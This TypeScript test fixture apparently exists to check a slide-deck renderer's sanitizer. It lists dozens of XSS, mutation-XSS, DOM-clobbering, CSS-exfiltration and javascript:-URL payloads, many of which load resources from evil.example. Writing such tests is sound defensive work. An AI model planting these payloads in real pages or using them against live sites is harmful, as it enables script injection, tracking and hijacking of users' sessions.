// Decks that try to run, load, leave, cover or break something. Each sets `window.pwned` or asks `evil.example` when it succeeds.
const EVIL = 'https://evil.example';
const RUN = 'window.pwned=1;top.pwned=1;alert(1)';

const HTML = [
  `<script>${RUN}</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="x" onerror='${RUN}'/>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="${EVIL}/"></iframe>`,
  `<object data="${EVIL}/x.swf"></object>`,
  `<embed src="${EVIL}/x.swf">`,
  `<link rel="stylesheet" href="${EVIL}/x.css">`,
  `<link rel="prefetch" href="${EVIL}/x">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<base href="${EVIL}/"><img src="a.png">`,
  `<form action="${EVIL}/"><input autofocus onfocus="${RUN}"><button>x</button></form>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video src="${EVIL}/x.mp4" autoplay onloadstart="${RUN}"></video>`,
  `<audio src="${EVIL}/x.mp3" autoplay></audio>`,
  `<video poster="${EVIL}/x.png"><source onerror="${RUN}"></video>`,
  `<img srcset="${EVIL}/x.png 1x">`,
  `<picture><source srcset="${EVIL}/x.png"><img src="a.png"></picture>`,
  `<img src="${EVIL}/track.gif">`,
  `<table background="${EVIL}/x.png"><tr><td background="${EVIL}/y.png">x</td></tr></table>`,
  `<body onload="${RUN}" background="${EVIL}/x.png">`,
  `<div style="background:url(${EVIL}/x.png)">x</div>`,
  `<div style="background:u\\72l(${EVIL}/x.png)">x</div>`,
  `<div style="background-image:image-set('${EVIL}/x.png' 1x)">x</div>`,
  `<div style="list-style:url(${EVIL}/x.png);display:list-item">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">cover</div>`,
  `<div style="position:sti/**/cky">x</div>`,
  `<div style='content:"\n;position:fixed;x:"'>x</div>`,
  `<div style="behavior:url(${EVIL}/x.htc);-moz-binding:url(${EVIL}/x.xml)">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<style>@import "${EVIL}/x.css";</style>`,
  `<style>@import url(${EVIL}/x.css);\n.slides h1 { background: url(${EVIL}/x.png) }</style>\n\n# x`,
  `<style>@font-face { font-family: x; src: url(${EVIL}/x.woff2) } .slides h1 { font-family: x }</style>\n\n# x`,
  `<style>.slides h1::before { content: url(${EVIL}/x.png) } .slides h1[title^="a"] { cursor: url(${EVIL}/x.cur), auto }</style>\n\n# x`,
  `<style></style><img src=x onerror=${RUN}></style>`,
  `<style><img src="</style><img src=x onerror=${RUN}//">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<a href="javascript:${RUN}" id="go">go</a>`,
  `<a href="java&#10;script:${RUN}" id="go">go</a>`,
  `<a href="data:text/html,<script>${RUN}</script>" id="go">go</a>`,
  `<a href="${EVIL}/" target="_top" id="go">go</a>`,
  `<a href="${EVIL}/" ping="${EVIL}/ping" download id="go">go</a>`,
  `<img name="getElementById"><img id="createElement"><form id="attributes"><input name="body">`,
  `<a id="documentElement"></a><img name="head"><img id="querySelector">`,
  `<section data-background-iframe="${EVIL}/"><h1>x</h1></section>`,
  `<div data-src="${EVIL}/x.png" data-background-image="${EVIL}/x.png" data-markdown data-template="x">x</div>`,
  `<a data-preview-link="javascript:${RUN}" data-preview-image="${EVIL}/x.png" id="go">go</a>`,
  `<p id="__proto__" class="reveal slides controls overlay present" title="x">x</p>`,
  `<p><!-- .element: onclick="${RUN}" style="position:fixed" data-background-iframe="${EVIL}/" --></p>`,
];

const MARKDOWN = [
  `[x](javascript:${RUN})`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![x](javascript:${RUN})`,
  `![x](${EVIL}/x.png =1x1)`,
  `![" onerror="${RUN}](x" onerror="${RUN})`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `:::info "><img src=x onerror=${RUN}>\nx\n:::`,
  `:::spoiler <img src=x onerror=${RUN}>\nx\n:::`,
  `*[x]: "><img src=x onerror=${RUN}>\n\nx`,
  '```"><img src=x onerror=alert(1)>\nx\n```',
  `x[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
];

const SLIDE_COMMENTS = [
  `data-background="${EVIL}/x.png"`,
  `data-background-image="${EVIL}/x.png"`,
  `data-background-video="${EVIL}/x.mp4"`,
  `data-background-iframe="${EVIL}/"`,
  `data-background-gradient="url(${EVIL}/x.png)"`,
  `data-background='red url(${EVIL}/x.png)'`,
  `data-background-size="1px;background:url(${EVIL}/x.png)"`,
  `style="background:url(${EVIL}/x.png);position:fixed"`,
  `class="reveal slides overlay" id="x"`,
  `data-state="x" data-autoslide="1" data-visibility="hidden"`,
  `onclick="${RUN}" data-notes="<img src=x onerror=${RUN}>"`,
];

const FRONT_MATTER = [
  `parallaxBackgroundImage: '${EVIL}/x.png'`,
  `parallaxBackgroundImage: 'x.png"),url(${EVIL}/x.png'`,
  `parallaxBackgroundSize: '1px;background:url(${EVIL}/x.png)'`,
  'autoSlide: 1\n  loop: true\n  keyboard: false\n  shuffle: true',
  `slideNumber: '<img src=x onerror=${RUN}>'`,
  `width: '1px"><script>${RUN}</script>'`,
  `theme: '../../x'`,
  'postMessage: true\n  history: true\n  hash: true',
];

/** All of them, each a deck of two slides: the attack and a harmless one. */
export const HOSTILE_DECKS: readonly string[] = [
  ...HTML,
  ...MARKDOWN,
  ...SLIDE_COMMENTS.map((comment) => `<!-- .slide: ${comment} -->\n\n# x`),
].map((attack) => `${attack}\n\n---\n\n# Harmless`);

/** Attacks that come in the options of a deck. */
export const HOSTILE_OPTIONS: readonly string[] = FRONT_MATTER.map(
  (options) => `---\nslideOptions:\n  ${options}\n---\n\n# x\n\n---\n\n# Harmless`,
);
